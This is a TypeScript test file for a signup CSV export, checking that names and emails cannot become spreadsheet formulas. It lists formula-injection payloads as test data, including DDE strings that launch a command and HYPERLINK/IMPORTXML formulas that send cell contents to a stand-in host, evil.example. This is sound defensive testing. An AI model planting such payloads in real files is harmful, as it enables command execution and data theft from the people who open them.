import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { LaunchSignup } from '../contract';
import { emailSchema, signupRequestSchema } from '../contract/schemas';
import { csvHeader, csvRows } from './csv';

const COLUMNS = ['email', 'name', 'signup_date', 'discount_percent', 'notification_status'];

const signup = (email: string, name?: string): LaunchSignup => ({
  email,
  ...(name !== undefined && { name }),
  signedUpAt: '2025-09-20T12:00:00.000Z',
  discountPercent: 20,
  notificationStatus: 'pending',
});

/** The file as another program reads it, where cells are split at `delimiter`. */
const read = (csv: string, delimiter = ','): string[][] =>
  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true, skip_empty_lines: true });

const namesOf = (names: readonly string[]) =>
  read(csvHeader() + csvRows(names.map((name, n) => signup(`${n}@example.com`, name))))
    .slice(1)
    .map(([, name]) => name);

const COMMAND = "cmd|'/c calc'!A1";
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const HOSTILE_NAMES = [
  ...SIGNS.map((sign) => `${sign}${COMMAND}`),
  ...SIGNS.map((sign) => `${sign}1`),
  ...SIGNS.map((sign) => `Ada;${sign}${COMMAND}`),
  ...SIGNS.map((sign) => `Ada; ${sign}1+1;b`),
  ...SIGNS.map((sign) => `Ada\t${sign}1+1`),
  `\t=${COMMAND}`,
  `\r=${COMMAND}`,
  `\u0000=${COMMAND}`,
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  `@SUM(1+1)*${COMMAND}`,
  'Ada;"=1+1"',
  `Ada;'=1+1`,
  'Ada";=1+1;"',
  ';;=1+1',
  '=1+1,=2+2',
  '+45 12 34 56 78',
];
const HOSTILE_EMAILS = [
  '=cmd@example.com',
  '+1@example.com',
  '-1@example.com',
  "=1+1|'x'!a@example.com",
  '＝1@example.com',
];

const HONEST_NAMES = [
  'Søren Ærø Ågård',
  'Zoë "Zed" O’Neil',
  "'t Hooft",
  'Smith, John',
  'Smith; John',
  '"quoted"',
  'a""b',
  '007',
  '0045',
  '1e5',
  '2025-09-20',
  'Ada =1',
  'Ada - Bob; Carl',
  'Jean-Luc',
  'a@b',
  'שלום עולם',
  'مرحبا',
  '名前',
  '👩‍👩‍👧 Family',
  'e\u0301clair',
  'line\u2028separator',
  '#N/A',
  'TRUE',
  'x'.repeat(200),
];

const isFormula = (cell: string) =>
  /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || ['\t', '\r', '\0'].some((sign) => cell.startsWith(sign));

test('there are at least 40 hostile cells, and none is a formula when it is read back', () => {
  expect(HOSTILE_NAMES.length + HOSTILE_EMAILS.length).toBeGreaterThanOrEqual(40);
  const csv = csvRows([
    ...HOSTILE_NAMES.map((name, n) => signup(`${n}@example.com`, name)),
    ...HOSTILE_EMAILS.map((email) => signup(email, 'Ada')),
  ]);
  expect(read(csv)).toHaveLength(HOSTILE_NAMES.length + HOSTILE_EMAILS.length);
  expect(read(csv).flat().filter(isFormula)).toEqual([]);
});

test.each([';', '\t'])('nor where a spreadsheet splits at %j', (delimiter) => {
  for (const name of HOSTILE_NAMES) {
    const cells = csvRows([signup('a@example.com', name)]).split(delimiter);
    expect(cells.filter(isFormula)).toEqual([]);
  }
  for (const email of HOSTILE_EMAILS) expect(isFormula(csvRows([signup(email)]))).toBe(false);
});

test('a hostile cell is its own text behind an apostrophe', () => {
  expect(namesOf(['=1+1', 'Ada;=1', '@x'])).toEqual(["'=1+1", "'Ada;'=1", "'@x"]);
});

test('every honest name comes back to the letter', () => {
  expect(namesOf(HONEST_NAMES)).toEqual(HONEST_NAMES);
});

test('whatever the contract lets in comes back to the letter, or is made harmless', () => {
  const name = fc.string({ unit: 'binary', maxLength: 60 });
  fc.assert(
    fc.property(fc.emailAddress(), name, (email, typed) => {
      const sent = signupRequestSchema.safeParse({ email, name: typed });
      if (!sent.success) return;
      const { name = '' } = sent.data;
      const [row = []] = read(csvRows([signup(email, name)]));
      expect(row.filter(isFormula)).toEqual([]);
      if (!row[1]?.startsWith("'")) expect(row[1]).toBe(name);
    }),
    { numRuns: 1000 },
  );
});

test('the hostile addresses are ones that the contract lets in', () => {
  expect(HOSTILE_EMAILS.filter((email) => !emailSchema.safeParse(email).success)).toEqual([]);
});

test('the file is UTF-8 with a byte order mark, CRLF and a header', () => {
  const csv = csvHeader() + csvRows([signup('a@example.com', 'Ada, "A"'), signup('b@example.com')]);
  expect(csv).toBe(
    [
      `\uFEFF${COLUMNS.join(',')}`,
      'a@example.com,"Ada, ""A""",2025-09-20T12:00:00.000Z,20,pending',
      'b@example.com,,2025-09-20T12:00:00.000Z,20,pending',
      '',
    ].join('\r\n'),
  );
  expect(read(csvRows([signup('a@example.com', 'one\ntwo\rthree')]))[0]?.[1]).toBe('one\ntwo\rthree');
});
